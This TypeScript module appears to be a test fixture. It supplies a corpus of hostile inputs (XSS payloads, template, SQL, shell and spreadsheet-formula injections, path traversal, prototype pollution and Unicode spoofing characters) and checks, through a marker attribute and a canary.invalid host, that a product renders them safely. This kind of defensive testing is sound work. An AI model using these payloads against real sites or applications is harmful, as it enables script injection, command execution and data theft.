/**
 * A page that treats a text of this corpus as code makes an element with this attribute, sets window.hurt, or calls the
 * canary.
 */
export const mark = 'data-planted'

export const canary = 'canary.invalid'

const hurt = `window.top.hurt=1;alert(1);new Image().src='http://${canary}/x'`
const img = `<img ${mark} src=x onerror="${hurt}">`

/** Texts that become elements, scripts or requests when they are treated as markup. `M` stands for the mark. */
const markup: readonly string[] = [
  `<script M>${hurt}</script>`,
  `"><script M src=//${canary}/a.js></script>`,
  `'><script M src="http://${canary}/b.js">`,
  `<scr<script M>ipt M>window.hurt=1</scr</script>ipt>`,
  `</title><script M>window.hurt=1</script>`,
  `</textarea><script M>window.hurt=1</script>`,
  `</script><script M>window.hurt=1</script>`,
  `--><script M>window.hurt=1</script><!--`,
  `]]><b M>cdata</b>`,
  img,
  `<img M src=http://${canary}/c.png>`,
  `<img M srcset="http://${canary}/d.png 2x">`,
  `<IMG M """><b M>quotes</b>">`,
  `<img/M/src='x'/onerror=alert(1)>`,
  `<svg M onload=alert(1)>`,
  `<svg><script M>window.hurt=1</script></svg>`,
  `<svg><animate M onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><a M xlink:href="javascript:alert(1)"><text>x</text></a>`,
  `<svg></p><style><a id="</style><img M src=1 onerror=alert(1)>">`,
  `<svg><use M href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">`,
  `<svg><foreignObject><b M>foreign</b></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img M src=1 onerror=alert(1)>`,
  `<math M href="javascript:alert(1)">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img M src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img M src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img M src=x onerror=alert(1)>">`,
  `<template><b M>template</b></template><b M>after</b>`,
  `<iframe M src="javascript:alert(1)">`,
  `<iframe M srcdoc="<script>top.hurt=1</script>">`,
  `<iframe M src=http://${canary}/frame>`,
  `<object M data="http://${canary}/o"></object>`,
  `<embed M src="http://${canary}/e">`,
  `<base M href="http://${canary}/">`,
  `<meta M http-equiv=refresh content="9;url=http://${canary}/m">`,
  `<link M rel=stylesheet href="http://${canary}/l.css">`,
  `<style M>@import "http://${canary}/s.css"</style>`,
  `<style M>*{background:url(http://${canary}/bg)}</style>`,
  `<p M style="background:url(http://${canary}/p)">x</p>`,
  `<p M style="position:fixed;inset:0;z-index:9999">over</p>`,
  `<video M><source onerror=alert(1)></video>`,
  `<audio M src=http://${canary}/a.ogg autoplay>`,
  `<details M open ontoggle=alert(1)>`,
  `<input M autofocus onfocus=alert(1)>`,
  `<select M autofocus onfocus=alert(1)>`,
  `<button M formaction=javascript:alert(1)>x</button>`,
  `<form M action="http://${canary}/f"><input name=password></form>`,
  `<marquee M onstart=alert(1)>x</marquee>`,
  `<b M onpointerover=alert(1)>over me</b>`,
  `<dialog M open>A dialog that is not ours</dialog>`,
  `<a M href="javascript:alert(1)">click</a>`,
  `<a M href="java&#9;script:alert(1)">click</a>`,
  `<a M href="data:text/html,<script>alert(1)</script>">click</a>`,
  `" M onmouseover="alert(1)" x="`,
  `' M autofocus onfocus='alert(1)' x='`,
  `\` M onfocus=alert(1) autofocus x=\``,
  `x" M style="animation-name:x" onanimationstart="alert(1)`,
  `&lt;img M src=x onerror=alert(1)&gt;`,
  `&#60;img M src=x onerror=alert(1)&#62;`,
  `\\u003cimg M src=x onerror=alert(1)\\u003e`,
  `%3Cimg%20M%20src%3Dx%20onerror%3Dalert(1)%3E`,
  `![x](javascript:alert(1)) <b M>markdown</b>`,
].map((text) => text.replaceAll(/\bM\b/g, mark))

/** Texts that are harmless as markup, but not for other readers: links, templates, spreadsheets, programs. */
const phrases: readonly string[] = [
  `javascript:window.hurt=1//`,
  `jAvAsCrIpT:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  `{{constructor.constructor('window.hurt=1')()}}`,
  '${window.hurt=1}',
  `<%= window.hurt=1 %>`,
  `#{window.hurt=1}`,
  `{0} {name} {count} %s %d %n`,
  `{{7*7}}[[7*7]]`,
  `=HYPERLINK("http://${canary}/x","x")`,
  `=cmd|' /C calc'!A0`,
  `+SUM(1+1)`,
  `-2+3`,
  `@SUM(A1:A9)`,
  `"quoted", 'single' and \`back\``,
  `'; DROP TABLE people; --`,
  `' or '1'='1`,
  `$(touch /tmp/hurt) && \`id\``,
  `../../../../etc/passwd`,
  `{"__proto__":{"hurt":1}}`,
  `__proto__`,
  `constructor`,
  `null`,
  `undefined`,
  `NaN`,
  `\\`,
  `-->`,
  `Zoë Ñandú 测试 עברית العربية 👩‍👩‍👧 ß`,
  `Z̷̢̛a̶̧l̷g̸o̵`,
  `ñ`.repeat(100),
  `W`.repeat(100),
]

/** Texts that are not what they look like. Names of people refuse them. */
const unseen: readonly string[] = [
  '\u202Egnp.exe',
  'a\u200Bb\u200Bc',
  '\u2066isolated\u2069 \u202Bembedded',
  '\uFEFFmarked',
  '\u2028line\u2029paragraph',
  'bell\u0007 and escape\u001B[31m',
]

const nul = 'before\u0000after'

/** Hands out the corpus, text after text, so that every field gets several and none is left. */
export class Corpus {
  static readonly plain: readonly string[] = [...markup, ...phrases]
  static readonly all: readonly string[] = [...Corpus.plain, ...unseen]
  static readonly refusedInNames: readonly string[] = [...unseen, nul]
  private at = 0
  private readonly dealt = new Set<string>()

  /** The next text, of at most so many characters. */
  next(longest = 100): string {
    return this.from(Corpus.all, longest)
  }

  /** The next text that a person may be called. */
  name(longest = 100): string {
    return this.from(Corpus.plain, longest)
  }

  /** The next text in both languages of the product. */
  both(longest = 100): { en: string; es: string } {
    return { en: this.next(longest), es: this.next(longest) }
  }

  /** Several texts as one long one. */
  long(longest: number, count: number): string {
    return Array.from({ length: count }, () => this.next(longest))
      .join('\n')
      .slice(0, longest)
  }

  /** The texts that no field has been given yet. */
  get left(): string[] {
    return Corpus.all.filter((text) => !this.dealt.has(text))
  }

  private from(texts: readonly string[], longest: number): string {
    const text = texts[this.at++ % texts.length] ?? ''
    this.dealt.add(text)
    return [...text].slice(0, longest).join('')
  }
}
